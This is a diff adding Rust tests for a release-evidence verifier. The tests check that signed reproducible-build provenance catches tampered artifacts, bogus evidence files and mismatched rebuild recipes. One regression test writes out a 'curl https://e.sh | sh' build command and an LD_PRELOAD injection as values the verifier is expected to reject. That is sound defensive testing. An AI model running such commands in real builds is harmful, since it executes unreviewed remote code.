@@ -1,0 +1,451 @@
+//! The checks over evidence folders made without an engine ([`crate::testing`]): a genuine
+//! release passes, and each way of fooling `verify` found by attacking it fails.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use reprove_attest::verify::Signer;
+use reprove_attest::{KeyAlgorithm, PrivateKey};
+use reprove_source::{Repository, Tag};
+use serde_json::{Value, json};
+
+use super::*;
+use crate::testing::{signed_provenance, synthetic_release, synthetic_report};
+
+const IMAGE: &str = "registry.example/build@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+
+struct Fx {
+    dir: tempfile::TempDir,
+    key: PrivateKey,
+}
+
+impl Fx {
+    /// A repository of project `name` with tags `v1.0.0` (and `v0.9.0` before it), a dist
+    /// folder, and a signed evidence folder for `v1.0.0`.
+    fn new(name: &str) -> Fx {
+        let fx = Fx {
+            dir: tempfile::tempdir().unwrap(),
+            key: PrivateKey::generate(KeyAlgorithm::P256).unwrap(),
+        };
+        std::fs::create_dir_all(fx.repo_dir()).unwrap();
+        std::fs::create_dir_all(fx.dist()).unwrap();
+        std::fs::write(fx.dist().join("app.txt"), b"app 1\n").unwrap();
+        std::fs::write(fx.dist().join("lib.txt"), b"lib 1\n").unwrap();
+        fx.git(&["init", "-q", "-b", "main"]);
+        std::fs::write(
+            fx.repo_dir().join("reprove.toml"),
+            format!(
+                "[project]\nname = \"{name}\"\nrepository = \"https://example.com/{name}\"\n\n[build]\nimage = \"{IMAGE}\"\ncommand = [\"make\", \"dist\"]\nartifacts = [\"dist/*\"]\nenv = {{ CC = \"gcc\" }}\n"
+            ),
+        )
+        .unwrap();
+        fx.git(&["add", "-A"]);
+        fx.git(&[
+            "commit",
+            "-q",
+            "-m",
+            "one\n\nReviewed-by: R <r@example.com>",
+        ]);
+        fx.git(&["tag", "v0.9.0"]);
+        std::fs::write(fx.repo_dir().join("src.c"), b"int main(){}\n").unwrap();
+        fx.git(&["add", "-A"]);
+        fx.git(&[
+            "commit",
+            "-q",
+            "-m",
+            "two\n\nReviewed-by: R <r@example.com>",
+        ]);
+        fx.git(&["tag", "v1.0.0"]);
+        synthetic_release(
+            &fx.repo(),
+            &tag("v1.0.0"),
+            &fx.dist(),
+            &fx.key,
+            &fx.evidence(),
+            true,
+        )
+        .unwrap();
+        fx
+    }
+
+    fn git(&self, args: &[&str]) {
+        let out = Command::new("git")
+            .current_dir(self.repo_dir())
+            .args(args)
+            .env_clear()
+            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+            .env("HOME", self.dir.path())
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("GIT_AUTHOR_NAME", "A")
+            .env("GIT_AUTHOR_EMAIL", "a@example.com")
+            .env("GIT_COMMITTER_NAME", "C")
+            .env("GIT_COMMITTER_EMAIL", "c@example.com")
+            .env("GIT_AUTHOR_DATE", "@1700000000 +0000")
+            .env("GIT_COMMITTER_DATE", "@1700000000 +0000")
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {out:?}");
+    }
+
+    fn repo_dir(&self) -> PathBuf {
+        self.dir.path().join("repo")
+    }
+    fn repo(&self) -> Repository {
+        Repository::discover(&self.repo_dir()).unwrap()
+    }
+    fn dist(&self) -> PathBuf {
+        self.dir.path().join("dist")
+    }
+    fn evidence(&self) -> PathBuf {
+        self.dir.path().join("evidence/v1.0.0")
+    }
+    fn signer(&self) -> Signer {
+        Signer::Key {
+            key: self.key.public_key(),
+        }
+    }
+
+    fn verify_with(&self, f: impl FnOnce(&mut Options<'_>)) -> VerifyReport {
+        let repo = self.repo();
+        let mut o = Options {
+            tag: tag("v1.0.0"),
+            evidence: self.evidence(),
+            artifacts: Artifacts::Folder(self.dist()),
+            signers: vec![self.signer()],
+            require: 1,
+            trusted_root: None,
+            project: None,
+            source_uri: None,
+            repo: Some(&repo),
+            images: None,
+            rebuild: None,
+        };
+        f(&mut o);
+        verify(&o, &|_| {})
+    }
+
+    fn verify(&self) -> VerifyReport {
+        self.verify_with(|_| {})
+    }
+}
+
+fn tag(s: &str) -> Tag {
+    s.parse().unwrap()
+}
+
+/// The findings of one check, joined, for assertions.
+fn findings(r: &VerifyReport, id: &str) -> String {
+    let c = r.check(id).unwrap();
+    format!("{:?} {} {}", c.status, c.detail, c.findings.join(" | "))
+}
+
+fn assert_verified(r: &VerifyReport) {
+    assert_eq!(
+        r.verdict,
+        VerifyVerdict::Verified,
+        "{}",
+        r.checks
+            .iter()
+            .map(|c| format!("{} {:?} {} {:?}", c.id, c.status, c.detail, c.findings))
+            .collect::<Vec<_>>()
+            .join("\n")
+    );
+}
+
+#[test]
+fn a_genuine_release_verifies_and_names_its_product() {
+    let fx = Fx::new("hello");
+    let r = fx.verify();
+    assert_verified(&r);
+    assert_eq!(r.artifacts_checked, ["app.txt", "lib.txt"]);
+    assert_eq!(r.project.as_deref(), Some("hello"));
+    let ps = findings(&r, "project-source");
+    assert!(
+        ps.contains("`hello`") && ps.contains("https://example.com/hello"),
+        "{ps}"
+    );
+    // Requiring the right product passes, in any URL form.
+    let r = fx.verify_with(|o| {
+        o.project = Some("hello".into());
+        o.source_uri = Some("git@example.com:hello.git".into());
+    });
+    assert_verified(&r);
+}
+
+#[test]
+fn another_products_genuine_release_fails_when_the_product_is_named() {
+    // Same key, same tag name, another product: signed and intact, but not what the auditor
+    // asked about.
+    let other = Fx::new("other");
+    let r = other.verify_with(|o| {
+        o.project = Some("hello".into());
+        o.source_uri = Some("https://example.com/hello".into());
+    });
+    assert_eq!(r.verdict, VerifyVerdict::Failed);
+    let f = findings(&r, "project-source");
+    assert!(
+        f.contains("wrong-project") && f.contains("wrong-source"),
+        "{f}"
+    );
+}
+
+#[test]
+fn no_artifacts_is_said_and_single_files_are_checked_alone() {
+    let fx = Fx::new("hello");
+    let r = fx.verify_with(|o| o.artifacts = Artifacts::NotChecked);
+    assert_eq!(r.verdict, VerifyVerdict::VerifiedNoArtifactsChecked);
+    let vsa = summary(&r, 1, "t".into());
+    assert!(
+        vsa.predicate
+            .verified_levels
+            .contains(&summary::NO_ARTIFACTS_CHECKED.to_owned())
+    );
+    // One file checked: the other subject is not required, and the VSA names only it.
+    let r = fx.verify_with(|o| o.artifacts = Artifacts::Files(vec![fx.dist().join("app.txt")]));
+    assert_verified(&r);
+    assert_eq!(r.artifacts_checked, ["app.txt"]);
+    let vsa = summary(&r, 1, "t".into());
+    assert_eq!(vsa.subject.len(), 1);
+    // A file whose bytes differ, or that no subject names, fails.
+    let odd = fx.dir.path().join("app.txt");
+    std::fs::write(&odd, b"tampered").unwrap();
+    let r = fx.verify_with(|o| o.artifacts = Artifacts::Files(vec![odd.clone()]));
+    assert!(findings(&r, "artifact-digests").contains("digest-mismatch"));
+    let r = fx.verify_with(|o| o.artifacts = Artifacts::Files(vec![fx.repo_dir().join("src.c")]));
+    assert!(findings(&r, "artifact-digests").contains("unattested-artifact"));
+}
+
+#[test]
+fn every_entry_of_the_artifacts_folder_counts() {
+    for (what, make) in [
+        (
+            "folder",
+            &(|d: &Path| std::fs::create_dir(d.join("extra")).unwrap()) as &dyn Fn(&Path),
+        ),
+        ("symlink", &|d: &Path| {
+            std::os::unix::fs::symlink("app.txt", d.join("latest.txt")).unwrap()
+        }),
+        ("FIFO", &|d: &Path| {
+            assert!(
+                Command::new("mkfifo")
+                    .arg(d.join("pipe"))
+                    .status()
+                    .unwrap()
+                    .success()
+            )
+        }),
+        ("file", &|d: &Path| {
+            std::fs::write(d.join("SHA256SUMS"), b"x").unwrap()
+        }),
+    ] {
+        let fx = Fx::new("hello");
+        make(&fx.dist());
+        let r = fx.verify();
+        assert_eq!(r.verdict, VerifyVerdict::Failed, "{what}");
+        assert!(
+            findings(&r, "artifact-digests").contains("unattested-artifact"),
+            "{what}: {}",
+            findings(&r, "artifact-digests")
+        );
+    }
+}
+
+#[test]
+fn a_fifo_or_a_link_to_dev_zero_in_the_evidence_neither_hangs_nor_passes() {
+    let fx = Fx::new("hello");
+    let fifo = fx.evidence().join("provenance-x.sigstore.json");
+    assert!(
+        Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap()
+            .success()
+    );
+    let r = fx.verify();
+    assert_eq!(r.verdict, VerifyVerdict::Failed);
+    assert!(findings(&r, "evidence-index").contains("not-regular-file"));
+
+    let fx = Fx::new("hello");
+    let b = fx.evidence().join(evidence::BASELINE);
+    std::fs::remove_file(&b).unwrap();
+    std::os::unix::fs::symlink("/dev/zero", &b).unwrap();
+    let r = fx.verify();
+    assert_eq!(r.verdict, VerifyVerdict::Failed);
+    assert!(findings(&r, "baseline-signature").contains("not-regular-file"));
+}
+
+#[test]
+fn a_huge_statement_is_refused_before_it_is_parsed() {
+    let fx = Fx::new("hello");
+    let b = fx.evidence().join(evidence::BASELINE);
+    let f = std::fs::File::create(&b).unwrap();
+    f.set_len(reprove_attest::signed::MAX_BUNDLE_BYTES + 1)
+        .unwrap();
+    let r = fx.verify();
+    assert!(findings(&r, "baseline-signature").contains("too-large"));
+}
+
+/// Adds another rebuilder's provenance, made from the synthetic report after `tweak`.
+fn add_rebuilder(
+    fx: &Fx,
+    name: &str,
+    key: &PrivateKey,
+    tweak: impl FnOnce(&mut reprove_build::RebuildReport),
+) {
+    let mut report = synthetic_report(&fx.repo(), &tag("v1.0.0"), &fx.dist()).unwrap();
+    tweak(&mut report);
+    let bundle = signed_provenance(&fx.repo(), &report, key).unwrap();
+    std::fs::write(
+        fx.evidence()
+            .join(format!("provenance-{name}.sigstore.json")),
+        bundle,
+    )
+    .unwrap();
+}
+
+#[test]
+fn a_second_rebuilder_counts_only_when_it_built_the_same_way() {
+    let fx = Fx::new("hello");
+    let bob = PrivateKey::generate(KeyAlgorithm::P256).unwrap();
+    let two = |fx: &Fx| {
+        fx.verify_with(|o| {
+            o.signers.push(Signer::Key {
+                key: bob.public_key(),
+            });
+            o.require = 2;
+        })
+    };
+    add_rebuilder(&fx, "bob", &bob, |_| {});
+    assert_verified(&two(&fx));
+
+    // Regression (issue 11): another image, a `curl | sh` command and host network were
+    // counted as agreeing.
+    for (what, tweak) in [
+        (
+            "image",
+            Box::new(|r: &mut reprove_build::RebuildReport| {
+                r.recipe.image = "registry.example/other@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
+                    .parse()
+                    .unwrap();
+            }) as Box<dyn Fn(&mut reprove_build::RebuildReport)>,
+        ),
+        (
+            "command",
+            Box::new(|r: &mut reprove_build::RebuildReport| {
+                r.recipe.command = vec!["sh".into(), "-c".into(), "curl https://e.sh | sh".into()];
+            }),
+        ),
+        (
+            "network",
+            Box::new(|r: &mut reprove_build::RebuildReport| r.network = "host".into()),
+        ),
+        (
+            "environment",
+            Box::new(|r: &mut reprove_build::RebuildReport| {
+                r.conditions
+                    .environment
+                    .insert("LD_PRELOAD".into(), "/tmp/x.so".into());
+            }),
+        ),
+    ] {
+        let fx = Fx::new("hello");
+        add_rebuilder(&fx, "bob", &bob, |r| tweak(r));
+        let r = two(&fx);
+        assert_eq!(r.verdict, VerifyVerdict::Failed, "{what}");
+        let f = findings(&r, "provenance-signature");
+        assert!(
+            f.contains("not-enough-rebuilders") && f.contains("not counted"),
+            "{what}: {f}"
+        );
+        // With one required, the genuine release still verifies: the odd one is not counted.
+        assert_verified(&fx.verify_with(|o| {
+            o.signers.push(Signer::Key {
+                key: bob.public_key(),
+            })
+        }));
+    }
+}
+
+#[test]
+fn provenance_that_is_not_for_this_release_is_not_counted_and_fails_nothing() {
+    let fx = Fx::new("hello");
+    // A genuine provenance of another release, signed by the trusted key.
+    let mut report = synthetic_report(&fx.repo(), &tag("v0.9.0"), &fx.dist()).unwrap();
+    report.tag = "v0.9.0".into();
+    let bundle = signed_provenance(&fx.repo(), &report, &fx.key).unwrap();
+    std::fs::write(fx.evidence().join("provenance-old.sigstore.json"), bundle).unwrap();
+    // Another predicate entirely: the baseline bundle, renamed.
+    std::fs::copy(
+        fx.evidence().join(evidence::BASELINE),
+        fx.evidence().join("provenance-baseline.sigstore.json"),
+    )
+    .unwrap();
+    // Signed by a key nobody gave.
+    let stranger = PrivateKey::generate(KeyAlgorithm::P256).unwrap();
+    add_rebuilder(&fx, "stranger", &stranger, |_| {});
+    let r = fx.verify();
+    assert_verified(&r);
+    let f = findings(&r, "provenance-signature");
+    for name in [
+        "provenance-old",
+        "provenance-baseline",
+        "provenance-stranger",
+    ] {
+        assert!(f.contains(name), "{name} is listed as not counted: {f}");
+    }
+}
+
+#[test]
+fn only_top_level_provenance_may_be_added_to_the_folder() {
+    let fx = Fx::new("hello");
+    let deep = fx.evidence().join("provenance-x/deep");
+    std::fs::create_dir_all(&deep).unwrap();
+    std::fs::write(deep.join("anything.sigstore.json"), b"{}").unwrap();
+    let r = fx.verify();
+    assert_eq!(r.verdict, VerifyVerdict::Failed);
+    assert!(findings(&r, "evidence-index").contains("evidence-unlisted"));
+}
+
+#[test]
+fn a_bundle_with_two_contents_is_a_bad_bundle() {
+    // Regression (issue 11): a second, unsigned content beside the signed one.
+    let fx = Fx::new("hello");
+    let p = fx.evidence().join(evidence::BASELINE);
+    let mut b: Value = serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
+    b["messageSignature"] =
+        json!({"messageDigest": {"algorithm": "SHA2_256", "digest": "AAAA"}, "signature": "AAAA"});
+    std::fs::write(&p, serde_json::to_vec(&b).unwrap()).unwrap();
+    let r = fx.verify();
+    assert_eq!(r.verdict, VerifyVerdict::Failed);
+    assert!(findings(&r, "baseline-signature").contains("bad-bundle"));
+}
+
+#[test]
+fn status_shows_a_failed_release_as_failed() {
+    let fx = Fx::new("hello");
+    let root = fx.dir.path().join("evidence");
+    synthetic_release(
+        &fx.repo(),
+        &tag("v0.9.0"),
+        &fx.dist(),
+        &fx.key,
+        &root.join("v0.9.0"),
+        false,
+    )
+    .unwrap();
+    let list = crate::status::status(
+        &fx.repo(),
+        &crate::status::Options {
+            evidence_root: root,
+            signers: vec![fx.signer()],
+            trusted_root: None,
+            images: None,
+        },
+    )
+    .unwrap();
+    let states: Vec<(&str, &str)> = list
+        .iter()
+        .map(|s| (s.tag.as_str(), s.state.as_str()))
+        .collect();
+    assert_eq!(states, [("v1.0.0", "verified"), ("v0.9.0", "failed")]);
+}
